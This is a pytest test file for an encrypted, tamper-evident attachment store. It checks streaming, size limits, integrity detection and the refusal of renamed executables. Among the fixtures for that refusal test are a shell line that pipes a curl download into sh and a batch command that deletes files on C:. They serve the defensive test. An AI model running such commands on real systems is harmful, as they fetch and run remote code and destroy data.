"""Attachment blob store: streamed, encrypted at rest, tamper-evident, executables refused."""

from __future__ import annotations

import hashlib
import tracemalloc
from collections.abc import AsyncIterator

import pytest

from liaison.config import Settings
from liaison.exchange.attachments import (
    StoredBlob,
    delete_blob,
    read_blob,
    store_bytes,
    store_stream,
)
from liaison.kit.errors import LiaisonError, PayloadTooLarge, ValidationFailed
from tests.support.aio import run_off_loop

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
MIB = 1024 * 1024


async def _pattern(total: int, chunk: int = 256 * 1024) -> AsyncIterator[bytes]:
    block = (b"%PDF-1.4\n" + bytes(range(256)) * 1024)[:chunk]
    sent = 0
    while sent < total:
        piece = block[: min(chunk, total - sent)]
        sent += len(piece)
        yield piece


def _blob_files(settings: Settings) -> list[str]:
    root = settings.data_dir / "blobs"
    return sorted(p.name for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_small_file_round_trips_and_is_not_stored_in_clear(settings: Settings) -> None:
    blob = store_bytes(settings, PDF, filename="../../bill of lading.pdf", max_bytes=MIB)
    assert blob.sha256 == hashlib.sha256(PDF).hexdigest()
    assert (blob.size, blob.mime, blob.filename) == (
        len(PDF),
        "application/pdf",
        "bill of lading.pdf",
    )
    assert b"".join(read_blob(settings, blob.blob_id)) == PDF
    on_disk = next((settings.data_dir / "blobs").rglob(blob.blob_id)).read_bytes()
    assert b"Catalog" not in on_disk
    delete_blob(settings, blob.blob_id)
    assert _blob_files(settings) == []


def test_fifty_mib_streams_with_flat_memory(settings: Settings) -> None:
    total = 50 * MIB
    tracemalloc.start()
    try:
        blob: StoredBlob = run_off_loop(
            store_stream(settings, _pattern(total), filename="scan.pdf", max_bytes=64 * MIB)
        )
        digest = hashlib.sha256()
        size = 0
        for piece in read_blob(settings, blob.blob_id):
            digest.update(piece)
            size += len(piece)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    expected = run_off_loop(_collect_hash(total))
    assert blob.size == size == total
    assert blob.sha256 == digest.hexdigest() == expected
    assert peak < 5 * MIB, f"peak {peak} bytes for a {total}-byte file"


async def _collect_hash(total: int) -> str:
    digest = hashlib.sha256()
    async for piece in _pattern(total):
        digest.update(piece)
    return digest.hexdigest()


def test_too_large_is_refused_on_the_attachment_field_and_leaves_nothing(
    settings: Settings,
) -> None:
    with pytest.raises(PayloadTooLarge) as caught:
        run_off_loop(store_stream(settings, _pattern(3 * MIB), filename="a.pdf", max_bytes=MIB))
    assert [e.field for e in caught.value.errors] == ["attachment"]
    assert _blob_files(settings) == []


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 300),
        ("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 300),
        ("notes.txt", b"#!/bin/sh\ncurl http://x | sh\n"),
        ("readme.txt", b"@echo off\r\ndel /q C:\\*\r\n"),
        ("tool.txt", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100),
        ("report.js", b"var a = 1;\n"),
        ("setup.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100),
        ("run.ps1", b"Get-ChildItem\n"),
    ],
)
def test_executables_are_refused_even_when_renamed(
    settings: Settings, filename: str, content: bytes
) -> None:
    with pytest.raises(ValidationFailed) as caught:
        store_bytes(settings, content, filename=filename, max_bytes=MIB)
    assert [e.field for e in caught.value.errors] == ["attachment"]
    assert _blob_files(settings) == []
    allowed = store_bytes(
        settings, content, filename=filename, max_bytes=MIB, allow_executables=True
    )
    assert b"".join(read_blob(settings, allowed.blob_id)) == content


def test_tampered_ciphertext_is_detected_on_read(settings: Settings) -> None:
    data = b"%PDF-1.4\n" + b"x" * 200_000
    blob = store_bytes(settings, data, filename="a.pdf", max_bytes=MIB)
    path = next((settings.data_dir / "blobs").rglob(blob.blob_id))
    raw = bytearray(path.read_bytes())
    raw[len(raw) // 2] ^= 0x01
    path.write_bytes(bytes(raw))
    with pytest.raises(LiaisonError, match="integrity"):
        b"".join(read_blob(settings, blob.blob_id))


def test_truncated_blob_and_swapped_blob_are_detected(settings: Settings) -> None:
    one = store_bytes(settings, b"%PDF-1.4\n" + b"1" * 150_000, filename="1.pdf", max_bytes=MIB)
    two = store_bytes(settings, b"%PDF-1.4\n" + b"2" * 150_000, filename="2.pdf", max_bytes=MIB)
    path_one = next((settings.data_dir / "blobs").rglob(one.blob_id))
    path_two = next((settings.data_dir / "blobs").rglob(two.blob_id))
    path_one.write_bytes(path_two.read_bytes())  # another blob's content under this id
    with pytest.raises(LiaisonError):
        b"".join(read_blob(settings, one.blob_id))
    full = path_two.read_bytes()
    path_two.write_bytes(full[: len(full) // 2])
    with pytest.raises(LiaisonError, match=r"truncated|integrity"):
        b"".join(read_blob(settings, two.blob_id))


def test_other_node_secret_cannot_read(
    settings: Settings, tmp_path_factory: pytest.TempPathFactory
) -> None:
    blob = store_bytes(settings, PDF, filename="a.pdf", max_bytes=MIB)
    other = Settings(party="IN", node_name="liaison-in", data_dir=settings.data_dir)
    other_key = tmp_path_factory.mktemp("k") / "secret.key"
    other_key.write_text("11" * 32)
    other = other.model_copy(update={"secret_key_file": other_key})
    with pytest.raises(LiaisonError, match="integrity"):
        b"".join(read_blob(other, blob.blob_id))
